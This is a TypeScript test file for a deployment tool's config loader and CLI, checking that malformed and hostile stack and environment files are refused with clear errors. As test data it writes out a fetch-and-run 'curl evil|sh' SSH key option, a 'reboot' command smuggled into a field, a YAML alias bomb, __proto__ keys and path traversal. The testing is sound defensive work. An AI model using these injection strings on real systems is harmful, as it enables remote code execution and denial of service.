/**
 * Hostile and careless input (issue 10): a corpus of bad stack files and environment
 * definitions, each written to disk as an operator would, then loaded as every command
 * and the program load them. Each must end in a ConfigError (the CLI: exit 2, no stack
 * trace) whose every line names the stack, the file and the key, and says what is
 * allowed; nothing else may escape (a TypeError, a yaml library error, a spec that
 * parsed but is wrong).
 *
 * What this proves: the schema and the file reader refuse each case before any
 * resource is declared. The CLI run at the end proves the same reaches an operator as
 * exit 2 with one message and no trace; test/index.test.ts proves the program registers
 * nothing on bad config.
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import * as YAML from "yaml";
import { ConfigError, ENVIRONMENT_FILE, loadStackSpec, stackFilePath } from "../../stacks";
import { cli } from "../scripts/cli";

const ENV_TEXT = fs.readFileSync(ENVIRONMENT_FILE, "utf8");
const DEV_TEXT = fs.readFileSync(stackFilePath("dev"), "utf8");
const SECURE = { secure: "v1:AAAAAAAAAAAAAAAA:BBBBBBBBBBBBBBBBBBBBBBBB" };
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "dockyard-hostile-"));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

type Doc = Record<string, any>;
/** The dev stack file as data, changed by `edit`. */
const devWith = (edit: (config: Doc) => void): string => {
  const doc = YAML.parse(DEV_TEXT) as Doc;
  edit(doc.config);
  return YAML.stringify(doc);
};
/** environment.yaml as data, changed by `edit`. */
const envWith = (edit: (env: Doc) => void): string => {
  const doc = YAML.parse(ENV_TEXT) as Doc;
  edit(doc);
  return YAML.stringify(doc);
};
/** Text with a line added to a mapping: `after` is the line it follows. */
const insertAfter = (text: string, after: string, lines: string): string => {
  expect(text).toContain(after);
  return text.replace(after, `${after}\n${lines}`);
};

interface Case {
  name: string;
  stack?: string;
  /** The stack file's text (default: dev's). */
  stackText?: string;
  /** environment.yaml's text (default: the real one). */
  envText?: string;
  /** Each problem reported must match one of these, and each of these one problem. */
  problems: RegExp[];
}

/** Longer than any file name may be (NAME_MAX 255), with only allowed characters. */
const LONG_STACK = "a".repeat(1000);

const BOMB = [
  "a: &a [x, x, x, x, x, x, x, x, x]",
  "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]",
  "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]",
  "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]",
  "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]",
  "f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]",
].join("\n");

/** A file as the YAML reader names it: stacks/<file> in the repository, here the test's own directory. */
const FILE = (file: string, stack = "dev") => `stack "${stack}": /\\S*/${file.replace(/\./g, "\\.")}`;
const SF = (stack = "dev") => `stack "${stack}": stacks/Pulumi\\.${stack}\\.yaml`;
const ENV = (stack = "dev") => `stack "${stack}": stacks/environment\\.yaml`;
const re = (s: string) => new RegExp(s);

const CASES: Case[] = [
  // --- prototype keys: never dropped, never taken from Object.prototype
  {
    name: "__proto__ as a host group in the stack file",
    stackText: insertAfter(DEV_TEXT, "  dockyard:hostGroups:", "    __proto__:\n      instanceType: t3.small\n      count: 1"),
    problems: [re(`${SF()}: config\\.dockyard:hostGroups\\.__proto__: the key "__proto__" is not allowed \\(JavaScript reserves it`)],
  },
  {
    name: "constructor as a host group in the stack file",
    stackText: insertAfter(DEV_TEXT, "  dockyard:hostGroups:", "    constructor:\n      instanceType: t3.small\n      count: 1"),
    problems: [re(`${SF()}: config\\.dockyard:hostGroups\\.constructor: unknown host group; declared groups: app`)],
  },
  {
    name: "__proto__ under dockyard:images",
    stackText: insertAfter(DEV_TEXT, "  dockyard:images:", `    __proto__: sha256:${"b".repeat(64)}`),
    problems: [re(`${SF()}: config\\.dockyard:images\\.__proto__: the key "__proto__" is not allowed \\(JavaScript reserves it`)],
  },
  {
    name: "constructor under dockyard:replicas",
    stackText: insertAfter(DEV_TEXT, "  dockyard:replicas:", "    constructor: 2"),
    problems: [re(`${SF()}: config\\.dockyard:replicas\\.constructor: unknown service; declared services: web`)],
  },
  {
    name: "__proto__ under dockyard:secrets",
    stackText: devWith((c) => void (c["dockyard:secrets"] = JSON.parse(`{"__proto__": ${JSON.stringify(SECURE)}}`))),
    problems: [re(`${SF()}: config\\.dockyard:secrets\\.__proto__: the key "__proto__" is not allowed \\(JavaScript reserves it`)],
  },
  {
    name: "a service needs secret 'constructor', which the stack never sets",
    envText: envWith((e) => void (e.services.web.secrets = { TOKEN: "constructor" })),
    problems: [re(`${SF()}: config\\.dockyard:secrets\\.constructor: missing; service "web" needs it for TOKEN`)],
  },
  {
    name: "a service in host group 'constructor', which is not declared",
    envText: envWith((e) => void (e.services.web.group = "constructor")),
    problems: [re(`${ENV()}: services\\.web\\.group: unknown host group "constructor"; declared groups: app`)],
  },
  {
    name: "a host group named constructor declared without stack knobs",
    envText: envWith((e) => void (e.hostGroups.constructor = { role: "app" })),
    problems: [re(`${SF()}: config\\.dockyard:hostGroups\\.constructor: missing; every host group needs instanceType and count`)],
  },
  {
    name: "__proto__ as a service in environment.yaml",
    envText: insertAfter(ENV_TEXT, "services:", "  __proto__:\n    group: app\n    containerPort: 8080\n    health: { path: / }"),
    problems: [re(`${ENV()}: services\\.__proto__: the key "__proto__" is not allowed \\(JavaScript reserves it`)],
  },
  {
    name: "toString as a service env variable's secret name",
    envText: envWith((e) => void (e.services.web.secrets = { TOKEN: "tostring" })),
    problems: [re(`${SF()}: config\\.dockyard:secrets\\.tostring: missing`)],
  },
  // --- secrets
  {
    name: "a plaintext value under dockyard:secrets in a committed stack file",
    envText: envWith((e) => void (e.services.web.secrets = { TOKEN: "api-token" })),
    stackText: devWith((c) => void (c["dockyard:secrets"] = { "api-token": "hunter2" })),
    problems: [re(`${SF()}: config\\.dockyard:secrets\\.api-token: is plaintext; allowed: a secure value.*pulumi config set --secret --path 'dockyard:secrets\\.api-token'`)],
  },
  {
    name: "a malformed secure value",
    envText: envWith((e) => void (e.services.web.secrets = { TOKEN: "api-token" })),
    stackText: devWith((c) => void (c["dockyard:secrets"] = { "api-token": { secure: 5 } })),
    problems: [re(`${SF()}: config\\.dockyard:secrets\\.api-token: is not a secure value`)],
  },
  {
    name: "dockyard:secrets as a list",
    stackText: devWith((c) => void (c["dockyard:secrets"] = ["x"])),
    problems: [re(`${SF()}: config\\.dockyard:secrets: .*`)],
  },
  // --- YAML itself
  {
    name: "an alias bomb in the stack file",
    stackText: `${BOMB}\n${DEV_TEXT}`,
    problems: [re(`${FILE("Pulumi.dev.yaml")}: YAML: .*alias`)],
  },
  {
    name: "an alias bomb in environment.yaml",
    envText: `${BOMB}\n${ENV_TEXT}`,
    problems: [re(`${FILE("environment.yaml")}: YAML: .*alias`)],
  },
  {
    name: "a YAML syntax error in the stack file",
    stackText: DEV_TEXT.replace("  aws:region: eu-west-1", "  aws:region: [eu-west-1"),
    problems: [re(`${FILE("Pulumi.dev.yaml")}: YAML syntax at line \\d+, column \\d+: `)],
  },
  {
    name: "a YAML syntax error in environment.yaml",
    envText: ENV_TEXT.replace("  family: debian-12", "  family: debian-12\n bad-indent: x"),
    problems: [re(`${FILE("environment.yaml")}: YAML syntax at line \\d+, column \\d+: `)],
  },
  {
    name: "a duplicate key in the stack file",
    stackText: insertAfter(DEV_TEXT, "  aws:region: eu-west-1", "  aws:region: eu-west-2"),
    problems: [re(`${FILE("Pulumi.dev.yaml")}: YAML syntax at line \\d+, column \\d+: .*unique`)],
  },
  {
    name: "a stack file that is a list",
    stackText: "- config\n",
    problems: [re(`${FILE("Pulumi.dev.yaml")}: \\(top level\\): must be a mapping with a config: key`)],
  },
  {
    name: "a stack file whose config is a string",
    stackText: "config: nothing\n",
    problems: [re(`${FILE("Pulumi.dev.yaml")}: config: must be a mapping of keys to values`)],
  },
  {
    name: "a merge key (YAML 1.1) in the stack file",
    stackText: `base: &base\n  aws:region: eu-west-1\n${DEV_TEXT.replace("config:", "config:\n  <<: *base")}`,
    problems: [re(`${SF()}: base: unknown top-level key`), re(`${SF()}: config: unknown key "<<"; allowed: aws:region`)],
  },
  // --- the environment definition
  {
    name: "dataMount /",
    envText: envWith((e) => void (e.hostGroups.app.dataMount = "/")),
    problems: [re(`${ENV()}: hostGroups\\.app\\.dataMount: "/" must be an absolute path other than /`)],
  },
  {
    name: "dataMount /etc",
    envText: envWith((e) => void (e.hostGroups.app.dataMount = "/etc")),
    problems: [re(`${ENV()}: hostGroups\\.app\\.dataMount: "/etc" would shadow the system directory /etc`)],
  },
  {
    name: "dataMount /var/lib/../etc",
    envText: envWith((e) => void (e.hostGroups.app.dataMount = "/var/lib/../etc")),
    problems: [re(`${ENV()}: hostGroups\\.app\\.dataMount: .*'\\.\\.' segment`)],
  },
  {
    name: "no host groups at all",
    envText: envWith((e) => void (e.hostGroups = {})),
    problems: [
      re(`${ENV()}: hostGroups: must declare at least one host group`),
      re(`${ENV()}: services\\.web\\.group: unknown host group "app"; declared groups: \\(none\\)`),
      re(`${SF()}: config\\.dockyard:hostGroups\\.app: unknown host group; declared groups: \\(none\\)`),
    ],
  },
  {
    name: "an unknown host group key in the environment with a record-key error",
    envText: envWith((e) => void (e.hostGroups.App_1 = { role: "app" })),
    problems: [re(`${ENV()}: hostGroups\\.App_1: must be a host group name: 2-32 chars of a-z, 0-9 and '-', starting with a letter`)],
  },
  {
    name: "an env variable name that is not UPPER_SNAKE",
    envText: envWith((e) => void (e.services.web.env = { "log-level": "x" })),
    problems: [re(`${ENV()}: services\\.web\\.env\\.log-level: must be an env name in UPPER_SNAKE`)],
  },
  {
    name: "an env value that is a number",
    envText: envWith((e) => void (e.services.web.env = { LOG_LEVEL: 5 })),
    problems: [re(`${ENV()}: services\\.web\\.env\\.LOG_LEVEL: .*string`)],
  },
  {
    name: "an env value with a NUL byte",
    envText: envWith((e) => void (e.services.web.env = { LOG_LEVEL: "a\u0000b" })),
    problems: [re(`${ENV()}: services\\.web\\.env\\.LOG_LEVEL: contains a NUL character`)],
  },
  {
    name: "an unknown ulimit name",
    envText: envWith((e) => void (e.engine.daemon.defaultUlimits = { nofiles: { soft: 1, hard: 1 } })),
    problems: [re(`${ENV()}: engine\\.daemon\\.defaultUlimits: unknown key "nofiles"; allowed: core, cpu,`)],
  },
  {
    name: "an empty environment.yaml",
    envText: "",
    problems: [re(`${ENV()}: os: missing`), re(`${ENV()}: engine: missing`), re(`${ENV()}: hostGroups: missing`), re(`${ENV()}: hostGroups: must declare at least one host group`), re(`${SF()}: config\\.dockyard:(hostGroups|images)\\.\\w+: unknown`), re(`${SF()}: config\\.dockyard:(hostGroups|images|replicas)\\.\\w+: unknown`), re(`${SF()}: config\\.dockyard:(hostGroups|images|replicas)\\.\\w+: unknown`)],
  },
  {
    name: "a health path with a '#', which HAProxy's configuration reads as a comment",
    envText: envWith((e) => void (e.services.web.health.path = "/healthz#x")),
    problems: [re(`${ENV()}: services\\.web\\.health\\.path: must be an HTTP path starting with /; allowed: `)],
  },
  {
    name: "a health path with a quote",
    envText: envWith((e) => void (e.services.web.health.path = '/a"b')),
    problems: [re(`${ENV()}: services\\.web\\.health\\.path: must be an HTTP path starting with /; allowed: `)],
  },
  {
    name: "an SSH public key with a second key on a new line",
    stackText: devWith((c) => void (c["dockyard:sshPublicKey"] = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA alice\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB mallory`)),
    problems: [re(`${SF()}: config\\.dockyard:sshPublicKey: must be an OpenSSH public key`)],
  },
  {
    name: "an SSH public key with authorized_keys options in front",
    stackText: devWith((c) => void (c["dockyard:sshPublicKey"] = `command="curl evil|sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA alice`)),
    problems: [re(`${SF()}: config\\.dockyard:sshPublicKey: must be an OpenSSH public key`)],
  },
  {
    name: "an instance type with a shell command in it",
    stackText: devWith((c) => void (c["dockyard:hostGroups"].app.instanceType = "t3.small; reboot")),
    problems: [re(`${SF()}: config\\.dockyard:hostGroups\\.app\\.instanceType: must be an EC2 instance type like t3\\.small`)],
  },
  {
    name: "a replica count for the proxy's name",
    stackText: insertAfter(DEV_TEXT, "  dockyard:replicas:", "    haproxy: 2"),
    problems: [re(`${SF()}: config\\.dockyard:replicas\\.haproxy: unknown service; declared services: web`)],
  },
  // --- stack names
  { name: "a stack name with a path in it", stack: "x/../Pulumi.dev", problems: [re(`stack "x/\\.\\./Pulumi\\.dev": the stack name is not allowed; allowed: `)] },
  { name: "a stack name with an underscore", stack: "dev_alice", problems: [re(`stack "dev_alice": the stack name is not allowed; allowed: `)] },
  { name: "an upper-case stack name", stack: "Dev", problems: [re(`stack "Dev": the stack name is not allowed; allowed: `)] },
  { name: "an empty stack name", stack: "", problems: [re(`stack "": the stack name is not allowed; allowed: `)] },
  // Issue 24 item 14: refused by the name rule before a path is made of it (was ENAMETOOLONG).
  { name: "a 1,000-character stack name", stack: LONG_STACK, problems: [re(`stack "a{46}\\.\\.\\." \\(1000 characters\\): the stack name is too long; allowed: at most 46 characters`)] },
  // --- registries
  {
    name: "an ECR registry with an 11-digit account",
    stackText: devWith((c) => void (c["dockyard:registry"] = "12345678901.dkr.ecr.eu-west-1.amazonaws.com/dockyard-dev")),
    problems: [re(`${SF()}: config\\.dockyard:registry: .*12-digit account`)],
  },
  {
    name: "an ECR registry in a region that is not one",
    stackText: devWith((c) => void (c["dockyard:registry"] = "123456789012.dkr.ecr.eu-nowhere.amazonaws.com/dockyard-dev")),
    problems: [re(`${SF()}: config\\.dockyard:registry: .*`)],
  },
  // --- knob values of the wrong type or range
  {
    name: "a host count given as a string",
    stackText: devWith((c) => void (c["dockyard:hostGroups"].app.count = "3")),
    problems: [re(`${SF()}: config\\.dockyard:hostGroups\\.app\\.count: must be an integer from 0 to 50`)],
  },
  {
    name: "a fractional host count",
    stackText: devWith((c) => void (c["dockyard:hostGroups"].app.count = 1.5)),
    problems: [re(`${SF()}: config\\.dockyard:hostGroups\\.app\\.count: must be an integer from 0 to 50`)],
  },
  {
    name: "sshCidrs as a string, not a list",
    stackText: devWith((c) => void (c["dockyard:sshCidrs"] = "198.51.100.0/24")),
    problems: [re(`${SF()}: config\\.dockyard:sshCidrs: must be a list \\(got a string\\)`)],
  },
  {
    name: "a tag instead of a digest",
    stackText: devWith((c) => void (c["dockyard:images"].web = "latest")),
    problems: [re(`${SF()}: config\\.dockyard:images\\.web: must be an image digest 'sha256:<64 lowercase hex>'`)],
  },
  {
    name: "a region with a trailing space",
    stackText: devWith((c) => void (c["aws:region"] = "eu-west-1 ")),
    problems: [re(`${SF()}: config\\.aws:region: must be an AWS region like eu-west-1`)],
  },
  {
    name: "a Pulumi path key written flat",
    stackText: devWith((c) => void (c["dockyard:secrets.db"] = SECURE)),
    problems: [re(`${SF()}: config\\.dockyard:secrets\\.db: only dockyard:secrets may hold secure values`)],
  },
  {
    name: "a secure value outside dockyard:secrets",
    stackText: devWith((c) => void (c["dockyard:registry"] = SECURE)),
    problems: [re(`${SF()}: config\\.dockyard:registry: only dockyard:secrets may hold secure values`)],
  },
];

function load(c: Case): unknown {
  const stack = c.stack ?? "dev";
  const dir = fs.mkdtempSync(path.join(tmp, "case-"));
  const envFile = path.join(dir, "environment.yaml");
  fs.writeFileSync(envFile, c.envText ?? ENV_TEXT);
  if (/^[A-Za-z0-9_.-]{1,200}$/.test(stack)) fs.writeFileSync(path.join(dir, `Pulumi.${stack}.yaml`), c.stackText ?? DEV_TEXT);
  try {
    loadStackSpec(stack, { dir, environmentFile: envFile });
    return "parsed";
  } catch (e) {
    return e;
  }
}

describe("bad input: each case is one ConfigError naming stack, file and key", () => {
  it.each(CASES.map((c) => [c.name, c] as const))("%s", (_, c) => {
    const e = load(c);
    expect(e).toBeInstanceOf(ConfigError);
    const problems = (e as ConfigError).problems;
    for (const p of problems) expect(c.problems.some((r) => r.test(p)), `unexpected problem: ${p}`).toBe(true);
    for (const r of c.problems) expect(problems.some((p) => r.test(p)), `no problem matches ${r}; got:\n${problems.join("\n")}`).toBe(true);
  });
});

/**
 * The same reaching an operator: the real CLI in a child process. Each is exit 2, its
 * error on stderr with no stack trace (no "    at " frame), and nothing written: the
 * stack files and the ledger are byte for byte as before.
 */
describe("bad input and misuse at the CLI: exit 2, one message, no stack trace, nothing changed", () => {
  const bomb = fs.mkdtempSync(path.join(tmp, "cli-bomb-"));
  fs.writeFileSync(path.join(bomb, "Pulumi.dev.yaml"), `${BOMB}\n${DEV_TEXT}`);
  const proto = fs.mkdtempSync(path.join(tmp, "cli-proto-"));
  fs.writeFileSync(path.join(proto, "Pulumi.dev.yaml"), insertAfter(DEV_TEXT, "  dockyard:replicas:", "    __proto__: 3"));
  const DIGEST_ARG = `sha256:${"c".repeat(64)}`;
  const badLedger = path.join(tmp, "bad-ledger.jsonl");
  fs.writeFileSync(badLedger, '{"time": "2026-11-28T00:00:00Z"\n');
  const cases: { args: string[]; stderr: RegExp }[] = [
    { args: ["plan", "staging"], stderr: /stack "staging": stacks\/Pulumi\.staging\.yaml: no such stack file; stacks: dev, local, prod, test/ },
    { args: ["plan", "x/../Pulumi.dev"], stderr: /stack "x\/\.\.\/Pulumi\.dev": the stack name is not allowed; allowed: / },
    { args: ["plan", "dev_alice"], stderr: /stack "dev_alice": the stack name is not allowed/ },
    { args: ["plan", "dev", "--stacks-dir", bomb], stderr: /Pulumi\.dev\.yaml: YAML: Excessive alias count/ },
    { args: ["plan", "dev", "--stacks-dir", proto], stderr: /config\.dockyard:replicas\.__proto__: the key "__proto__" is not allowed/ },
    { args: ["plan", "dev", "--environment", path.join(tmp, "missing.yaml")], stderr: /missing\.yaml: cannot read: ENOENT/ },
    { args: ["diff", "dev", "staging"], stderr: /stack "staging": .*no such stack file/ },
    { args: ["promote", "--from", "test", "--to", "test", "--dry-run"], stderr: /--from and --to are both test/ },
    { args: ["rollback", "prod", "--service", "nosuch"], stderr: /--service nosuch: stack prod .* has no such service; services: web/ },
    { args: ["rollback", "prod", "--service", "web", "--to", "latest"], stderr: /--to latest: must be an image digest/ },
    { args: ["rollback", "prod", "--to", DIGEST_ARG], stderr: /--to needs --service/ },
    { args: ["rollback", "prod", "--ledger", badLedger], stderr: /bad-ledger\.jsonl:1: not a JSON line; nothing was changed/ },
    { args: ["pin", "--check", "--stacks-dir", path.join(tmp, "no-such-dir")], stderr: /no stack files Pulumi\.<stack>\.yaml in .*no-such-dir/ },
    // Issue 24 item 14: every command that takes a stack name refuses a 1,000-character one by the name rule, before any file.
    ...[
      ["plan", LONG_STACK],
      ["plan", LONG_STACK, "--map"],
      ["diff", "dev", LONG_STACK],
      ["promote", "--from", LONG_STACK, "--to", "prod", "--dry-run"],
      ["promote", "--from", "test", "--to", LONG_STACK, "--dry-run"],
      ["rollback", LONG_STACK],
      ["pin", LONG_STACK, "--check"],
      ["smoke", LONG_STACK],
      ["up", LONG_STACK],
      ["dev-server", "up", "--owner", "alice", "--from", LONG_STACK],
      ["dev-server", "destroy", "--owner", LONG_STACK],
    ].map((args) => ({ args, stderr: /\(\d+ characters\): the stack name is too long; allowed: at most 46 characters/ })),
    { args: ["plan"], stderr: /Not enough non-option arguments|stack/ },
    { args: ["plan", "dev", "--no-such-option"], stderr: /Unknown argument/ },
    { args: ["launch", "dev"], stderr: /Unknown argument|Unknown command/ },
  ];
  const files = ["dev", "test", "prod"].map((s) => stackFilePath(s)).concat(path.join(path.dirname(ENVIRONMENT_FILE), "promotions.jsonl"));
  const contents = () => files.map((f) => (fs.existsSync(f) ? fs.readFileSync(f, "utf8") : "(absent)"));
  const before = contents();

  const label = (args: string[]) => args.map((a) => (a.length > 60 ? `<${a.length} characters>` : a)).join(" ");
  it.each(cases.map((c) => [label(c.args), c] as const))("dockyard %s", async (_, c) => {
    const r = await cli(c.args);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(c.stderr);
    expect(r.stderr).not.toMatch(/^\s+at /m);
    expect(r.stderr).not.toMatch(/ENAMETOOLONG/);
    expect(contents()).toEqual(before);
  });
});
